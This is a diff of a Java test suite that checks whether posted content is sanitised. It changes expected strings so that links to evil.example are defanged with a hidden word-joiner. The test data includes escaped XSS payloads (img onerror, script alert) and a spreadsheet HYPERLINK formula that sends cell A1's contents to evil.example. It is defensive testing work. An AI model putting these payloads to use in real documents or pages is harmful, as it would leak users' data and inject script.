@@ -88,7 +88,7 @@ class HostileContentTest {
         .contains("&lt;img src=x onerror=alert(2)&gt;")
         .contains("Reset your password")
         .contains("[Our docs](https://docs.example.com/a_b)")
-        .contains("**&lt;b&gt;Show&lt;/b&gt; \\_of\\_ \\[strangers\\](https://evil.example/x)**")
+        .contains("**&lt;b&gt;Show&lt;/b&gt; \\_of\\_ \\[strangers\\](https:\u2060//evil.example/x)**")
         .contains("\\# Urgent: new bank details")
         .contains("\\| forged \\| table \\|")
         .contains("[Listen on Spotify](https://open.spotify.com/episode/" + GOOD_ID + ")");
@@ -177,7 +177,7 @@ class HostileContentTest {
         .filter(p -> p.path("externalRef").asText().startsWith("gridcast:performance-report:")).findFirst().orElseThrow();
     String body = post.path("body").asText();
     assertThat(body).doesNotContain("<script").contains("\\-2+3 &lt;script&gt;alert(1)&lt;/script&gt;")
-        .contains("| \\=HYPERLINK(\"https://evil.example/?leak=\"&amp;A1,\"Open invoice\") |");
+        .contains("| \\=HYPERLINK(\"https:\u2060//evil.example/?leak=\"&amp;A1,\"Open invoice\") |");
     JsonNode csvDoc = sandboxes.tradingGridSandbox.resource(TradingGridResource.DOCUMENTS,
         post.path("attachments").get(0).asText()).orElseThrow();
     assertThat(csvDoc.path("fileName").asText()).endsWith(".csv");
